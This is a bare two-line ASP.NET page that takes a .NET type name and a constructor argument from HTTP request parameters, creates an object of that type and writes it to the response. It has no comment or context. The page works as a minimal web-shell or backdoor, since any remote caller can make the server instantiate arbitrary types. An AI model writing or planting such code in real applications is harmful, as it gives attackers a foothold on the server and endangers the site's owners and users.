<%@ Page Language="C#" %>
<% object o = Activator.CreateInstance(Type.GetType(Request["t"]), Request["a"]); Response.Write(o); %>
